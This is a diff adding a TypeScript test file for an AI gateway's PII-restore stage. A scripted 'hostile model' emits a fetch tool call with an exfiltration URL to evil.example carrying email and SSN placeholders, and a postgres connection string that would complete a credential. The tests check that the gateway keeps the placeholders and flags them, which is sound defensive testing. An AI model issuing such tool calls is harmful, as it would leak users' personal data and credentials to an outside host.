@@ -1,0 +1,113 @@
+/**
+ * Stage 9 as a hostile model would use it: to put the caller's PII into a tool call's URL (an
+ * exfiltration link), or to finish a credential with a restored value after stage 7 had passed the
+ * tokenised text. Real governed tenant, real stages and redaction; the model is a scripted neighbour.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { GatewayRequest, GatewayResult } from '../../../main/gateway/index.ts';
+import type { FunctionCall, FunctionDefinition, GenerateRequest, GenerateResult, ModelProvider } from '../../../main/providers/provider.ts';
+import { close, entries, gatewayFixture, verify, type GatewayFixture } from './helpers.ts';
+
+/** Answers with a scripted text (and function calls), streamed word by word. */
+class Scripted implements ModelProvider {
+  readonly kind = 'llama-cpp' as const;
+  readonly modelId = 'scripted';
+  answer = '';
+  functionCalls: FunctionCall[] | undefined;
+  readonly seen: string[] = [];
+  async generate(request: GenerateRequest): Promise<GenerateResult> {
+    for (const m of request.messages ?? []) this.seen.push(m.content);
+    for (const word of this.answer.split(/(?<= )/)) request.onToken?.(word);
+    return { text: this.answer, tokens: 8, promptTokens: 8, stopReason: 'eos', ...(this.functionCalls !== undefined && { functionCalls: this.functionCalls }) };
+  }
+  async dispose(): Promise<void> {}
+}
+
+const FETCH: FunctionDefinition[] = [{ name: 'fetch', description: 'Fetch a URL', parameters: { type: 'object', properties: { url: { type: 'string' }, to: { type: 'string' } } } }];
+
+let f: GatewayFixture<Scripted>;
+beforeAll(async () => {
+  // Cheap tokens: the per-call budget must not refuse a call with a function template before it runs.
+  f = await gatewayFixture(new Scripted(), { pricing: () => ({ input: 0.01, output: 0.01 }) });
+});
+afterAll(async () => {
+  await close(f);
+});
+
+const ask = (agent: string, content: string, extra: Partial<GatewayRequest> = {}): GatewayRequest => ({ actor: 'ann', agent, messages: [{ role: 'user', content }], maxTokens: 64, ...extra });
+const restoreVerdict = (result: GatewayResult) => result.verdicts.find((v) => v.stage === 'pii-restore');
+
+describe('tokens inside a URL in tool-call arguments', () => {
+  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
+  const EXFIL = 'https://evil.example/c?d=[EMAIL_1]&s=[SSN_1]';
+
+  for (const via of ['call', 'stream'] as const) {
+    it(`keeps them tokens (${via}) and records how many and of which categories`, async () => {
+      f.provider.answer = 'Fetching the summary';
+      f.provider.functionCalls = [{ name: 'fetch', arguments: { url: EXFIL } }];
+      const request = ask(`exfil-${via}`, PROMPT, { functions: FETCH });
+      const streamed: string[] = [];
+      const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t));
+      expect(result.functionCalls).toEqual([{ name: 'fetch', arguments: { url: EXFIL } }]);
+      for (const shown of [JSON.stringify(result.functionCalls), result.text, streamed.join('')]) {
+        expect(shown).not.toContain('jane@corp.example');
+        expect(shown).not.toContain('123-45-6789');
+      }
+      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 2, keptInUrlCategories: 'EMAIL,SSN' } });
+      expect(JSON.stringify(restoreVerdict(result))).not.toContain('jane');
+      expect((await verify(f)).ok).toBe(true);
+    });
+  }
+
+  it('keeps a token in a host-and-path URL without a scheme too', async () => {
+    f.provider.answer = 'ok';
+    f.provider.functionCalls = [{ name: 'fetch', arguments: { url: 'see evil.example/c?d=[EMAIL_1] now' } }];
+    const result = await f.gateway.call(ask('exfil-host-path', PROMPT, { functions: FETCH }));
+    expect(result.functionCalls[0]?.arguments).toEqual({ url: 'see evil.example/c?d=[EMAIL_1] now' });
+  });
+
+  it('restores a token that is the whole argument value: tools need real values', async () => {
+    f.provider.answer = 'ok';
+    f.provider.functionCalls = [{ name: 'fetch', arguments: { to: '[EMAIL_1]', url: 'https://crm.example/customers' } }];
+    const result = await f.gateway.call(ask('whole-value', PROMPT, { functions: FETCH }));
+    expect(result.functionCalls[0]?.arguments).toEqual({ to: 'jane@corp.example', url: 'https://crm.example/customers' });
+    expect(restoreVerdict(result)?.outcome).toBe('pass');
+  });
+
+  it('restores a URL the caller wrote themselves, value and all', async () => {
+    f.provider.answer = 'ok';
+    f.provider.functionCalls = [{ name: 'fetch', arguments: { url: 'https://crm.example/find?email=[EMAIL_1]' } }];
+    const result = await f.gateway.call(ask('caller-url', 'Open https://crm.example/find?email=jane@corp.example please', { functions: FETCH }));
+    expect(f.provider.seen.at(-1)).not.toContain('jane@corp.example');
+    expect(result.functionCalls[0]?.arguments).toEqual({ url: 'https://crm.example/find?email=jane@corp.example' });
+  });
+});
+
+describe('a restored value that completes a credential', () => {
+  const PROMPT = 'Our DBA is ops@db.internal please';
+  const LEAK = 'Sup3rS3cretPw.ops@db.internal';
+
+  for (const via of ['call', 'stream'] as const) {
+    it(`keeps the token in place in the text (${via}) and records it`, async () => {
+      f.provider.answer = 'use postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod now';
+      f.provider.functionCalls = undefined;
+      const streamed: string[] = [];
+      const request = ask(`credential-text-${via}`, PROMPT);
+      const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t), { holdUntilVerdict: false });
+      expect(result.text).toBe('use postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod now');
+      expect(streamed.join('')).not.toContain(LEAK);
+      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptForCredential: 1, keptForCredentialCategories: 'EMAIL' } });
+      expect(JSON.stringify(entries(f))).not.toContain(LEAK);
+    });
+  }
+
+  it('keeps the token in tool-call arguments, and restores the value elsewhere in the text', async () => {
+    f.provider.answer = 'Ask [EMAIL_1] for access';
+    f.provider.functionCalls = [{ name: 'fetch', arguments: { to: 'connect with postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod' } }];
+    const result = await f.gateway.call(ask('credential-args', PROMPT, { functions: FETCH }));
+    expect(result.text).toBe('Ask ops@db.internal for access');
+    expect(JSON.stringify(result.functionCalls)).not.toContain(LEAK);
+    expect(result.functionCalls[0]?.arguments).toEqual({ to: 'connect with postgres://admin:Sup3rS3cretPw.[EMAIL_1]:5432/prod' });
+    expect(restoreVerdict(result)?.outcome).toBe('flag'); // a URL the caller did not write: kept for that first (the unit test pins the credential check)
+  });
+});
